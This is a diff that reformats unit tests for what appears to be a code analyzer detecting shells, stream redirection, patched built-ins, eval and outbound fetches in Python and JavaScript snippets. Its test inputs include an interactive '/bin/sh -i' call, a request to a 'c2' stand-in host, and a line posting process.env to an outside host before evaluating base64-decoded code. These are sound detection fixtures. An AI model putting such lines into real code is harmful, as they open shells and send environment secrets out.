@@ -184,7 +184,9 @@ subprocess.call(["/bin/sh", "-i"])
 }
 
 TEST(Flow, Sees_no_shell_in_duplicating_a_log_file) {
-  EXPECT_EQ(python("import os\nos.dup2(os.open(os.devnull, os.O_RDWR), 1)\n").find(Act::redirect_stream), nullptr);
+  EXPECT_EQ(
+      python("import os\nos.dup2(os.open(os.devnull, os.O_RDWR), 1)\n").find(Act::redirect_stream),
+      nullptr);
 }
 
 TEST(Flow, Reads_a_payload_from_a_file_of_the_package) {
@@ -213,7 +215,8 @@ require('https').get('https://c2.example.test/s', res => {
 }
 
 TEST(Flow, Notes_that_a_built_in_is_replaced) {
-  EXPECT_NE(javascript("window.fetch = function (u) { return 1; };").find(Act::patch_global), nullptr);
+  EXPECT_NE(javascript("window.fetch = function (u) { return 1; };").find(Act::patch_global),
+            nullptr);
 }
 
 TEST(Flow, Ends_on_endless_loops_and_says_so_only_of_real_ones) {
@@ -223,8 +226,11 @@ TEST(Flow, Ends_on_endless_loops_and_says_so_only_of_real_ones) {
 }
 
 TEST(Flow, Stays_within_its_budget_on_code_made_to_be_slow) {
-  std::string code = "def f(n):\n    s = ''\n    for i in range(200000):\n        s += chr(i % 90 + 33)\n    return s\n";
-  for (int i = 0; i < 200; ++i) code += "x" + std::to_string(i) + " = f(" + std::to_string(i) + ")\n";
+  std::string code =
+      "def f(n):\n    s = ''\n    for i in range(200000):\n        s += chr(i % 90 + 33)\n    "
+      "return s\n";
+  for (int i = 0; i < 200; ++i)
+    code += "x" + std::to_string(i) + " = f(" + std::to_string(i) + ")\n";
   const Scene scene = python(code);
   EXPECT_FALSE(scene.result.gaps.empty());
 }
@@ -256,17 +262,20 @@ TEST(Flow, Looking_for_a_name_through_a_thousand_scopes_counts_as_work) {
 }
 
 TEST(Flow, One_long_text_evaluated_very_often_counts_as_work) {
-  const Scene scene = javascript("var s='" + repeated("a();", 50'000) + "';" + repeated("eval(s);", 50'000));
+  const Scene scene =
+      javascript("var s='" + repeated("a();", 50'000) + "';" + repeated("eval(s);", 50'000));
   EXPECT_FALSE(scene.result.gaps.empty());
 }
 
 TEST(Flow, A_callback_that_is_given_the_whole_long_list_each_time_costs_in_proportion) {
-  const Scene scene = javascript("var l=[" + repeated("97,", 30'000) + "];eval(l.map((c, i, all) => String.fromCharCode(c)).join(''))");
+  const Scene scene = javascript("var l=[" + repeated("97,", 30'000) +
+                                 "];eval(l.map((c, i, all) => String.fromCharCode(c)).join(''))");
   EXPECT_NE(scene.find(Act::run_code), nullptr);
 }
 
 TEST(Flow, Gives_the_same_answer_twice) {
-  const std::string code = "const e = process.env; fetch('https://a.example.test', {body: e}); eval(atob('Zm9vKCk7'));";
+  const std::string code =
+      "const e = process.env; fetch('https://a.example.test', {body: e}); eval(atob('Zm9vKCk7'));";
   EXPECT_EQ(javascript(code).result.actions, javascript(code).result.actions);
 }
 
